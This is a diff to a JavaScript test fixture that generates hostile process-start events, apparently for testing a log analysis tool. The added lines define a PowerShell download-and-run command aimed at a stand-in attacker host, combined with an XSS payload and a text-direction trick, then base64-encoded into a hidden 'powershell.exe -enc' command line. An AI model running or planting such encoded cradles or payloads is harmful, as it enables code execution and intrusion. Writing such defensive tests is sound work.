@@ -36,6 +36,11 @@ export const attacks = [
 /** As long as a command line can get, with an attack at its very end. */
 export const longCommand = `\"c:\\long.exe\" ${'A'.repeat(10_000_000)}<img src=x onerror=window.pwned=1>needle-at-the-end`;
 
+/** What one process's command line hides in base64: a download, and an attack on whoever has it decoded. */
+export const hidden = "IEX (iwr 'http://attacker.example/hidden-payload') #<img src=x onerror=window.pwned=1>\u202e";
+
+const encodedCommand = `powershell.exe -nop -enc ${Buffer.from(hidden, 'utf16le').toString('base64')}`;
+
 const guid = (number) => `{${number.toString(16).padStart(8, '0')}-0000-4000-8000-${(number * 7919).toString(16).padStart(12, '0')}}`;
 
 /** Writes JSON lines of process starts and image loads; returns their number of processes. */
@@ -49,7 +54,7 @@ export function writeHostileEvents(file) {
     const Image = `c:\\temp\\${attack(0)}`;
     put({
       EventID: 1, UtcTime: time(i), Hostname: attack(5), ProcessGuid: guid(i + 1), ProcessId: String(1000 + i), Image,
-      CommandLine: i === 3 ? longCommand : `${attack(1)} ${i}`, User: attack(9), ParentProcessGuid: guid(Math.floor(i / 3)), ParentProcessId: String(999 + Math.floor(i / 3)),
+      CommandLine: i === 3 ? longCommand : i === 10 ? encodedCommand : `${attack(1)} ${i}`, User: attack(9), ParentProcessGuid: guid(Math.floor(i / 3)), ParentProcessId: String(999 + Math.floor(i / 3)),
     });
     // What a process loads depends on its name and a little on chance, so that clusters form.
     const group = i % 6;
